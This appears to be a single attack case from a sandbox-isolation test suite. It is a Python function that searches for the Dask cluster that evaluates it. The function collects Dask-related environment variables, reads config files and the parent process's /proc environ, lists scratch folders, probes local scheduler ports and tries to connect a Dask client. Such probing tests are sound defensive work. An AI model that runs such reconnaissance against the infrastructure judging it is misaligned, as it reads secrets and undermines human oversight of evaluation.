# /// attack
# title = "Looks for the cluster that it is judged by"
# ///
import os
import socket
import stat


def attack():
    found = [(name, text) for name, text in os.environ.items() if "dask" in (name + text).lower()]
    for number in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    places = [WORLD.get("scheduler"), WORLD.get("worker"), WORLD.get("tcp"), 8786]
    for port in filter(None, places):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).send(b"hello")
            found.append(port)
        except OSError:
            pass
    for path in [*WORLD.get("keys", []), "/etc/dask/dask.yaml", "/root/.config/dask/dask.yaml"]:
        try:
            found.append(open(path).read())
        except OSError:
            pass
    for folder in [*WORLD.get("folders", []), "/tmp/dask-scratch-space"]:
        try:
            found += os.listdir(folder)
        except OSError:
            pass
    for pid in [*WORLD.get("processes", []), os.getppid()]:
        try:
            found.append(open(f"/proc/{pid}/environ", "rb").read())
        except OSError:
            pass
    try:
        import distributed

        found.append(distributed.get_worker().address)
    except Exception:  # not there, not to be read, or no worker at all
        pass
    try:
        found.append(distributed.Client(f"127.0.0.1:{WORLD.get('scheduler', 8786)}", timeout=1))
    except Exception:
        pass
    return found or None
